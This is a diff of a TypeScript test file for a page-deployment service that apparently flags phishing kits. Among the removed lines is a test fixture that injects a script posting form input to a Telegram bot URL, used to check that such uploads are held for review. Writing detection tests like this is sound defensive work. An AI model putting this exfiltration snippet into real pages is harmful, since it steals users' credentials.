@@ -1,7 +1,6 @@
 import { storePictureOfVersion } from '../../support/buckets.ts';
 import { newCaller } from '../../support/cloud/client.ts';
 import { cloud } from '../../support/cloud/cloud.ts';
-import { newKey } from '../../support/cloud/keys.ts';
 import { page } from '../../support/gate/sample.ts';
 
 const KIT = page(
@@ -95,8 +94,7 @@ it('shows the page once other files are deployed, and nothing of it once it is h
   expect(await seen(caller, id)).toEqual(PUBLIC);
   const held = JSON.parse(String(first.headers.etag));
   expect((await caller.send(`/d/${id}.png?version=${held}`)).status).toBe(404);
-  const review = async () =>
-    (await caller.send(`/api/v1/deployments/${id}`, { headers: tokenOf(first) })).json.review;
+  const review = async () => (await caller.send(`/api/v1/deployments/${id}`, { headers: tokenOf(first) })).json.review;
   expect(await review()).toBe(undefined);
   // The edge has the file with a hashed name, and does not ask for a day.
   expect((await caller.send(`/d/${id}/${HASHED}`)).headers['x-cache']).toBe('Hit from cloudfront');
@@ -123,32 +121,3 @@ async function expectSoon<T>(value: () => Promise<T>, expected: T): Promise<void
     await new Promise((resolve) => setTimeout(resolve, 100));
   expect(await value()).toEqual(expected);
 }
-
-it('lets pages of keys do more, also those that a key claims, and lists which are held', async () => {
-  const caller = newCaller();
-  const authorization = { authorization: `Bearer ${await newKey()}` };
-  const deployed = await caller.post('/api/v1/deploy', site(KIT));
-  const { id } = deployed.json;
-  expect((await caller.send(`/d/${id}/`)).status).toBe(403);
-  const claimed = await caller.post(`/api/v1/deployments/${id}/claim`, undefined, {
-    ...authorization,
-    ...tokenOf(deployed),
-  });
-  expect([claimed.status, claimed.json.review]).toEqual([200, undefined]);
-  expect((await caller.send(`/d/${id}/`)).status).toBe(200);
-  const chat = KIT.replace(
-    '</form>',
-    '</form><script>fetch("https://api.telegram.org/bot1:a/sendMessage?text="+p)</script>',
-  );
-  const worse = await caller.post('/api/v1/deploy', site(chat), authorization);
-  expect(worse.headers['x-deployment-warning']).toMatch(
-    /pages of keys may have 100\. To make it public, deploy/,
-  );
-  await expectSoon(async () => {
-    const { items } = (await caller.send('/api/v1/deployments', { headers: authorization })).json;
-    return items.map((item: { id: string; review?: object }) => [item.id, item.review ?? null]);
-  }, [
-    [worse.json.id, { state: 'held', points: 130 }],
-    [id, null],
-  ]);
-});
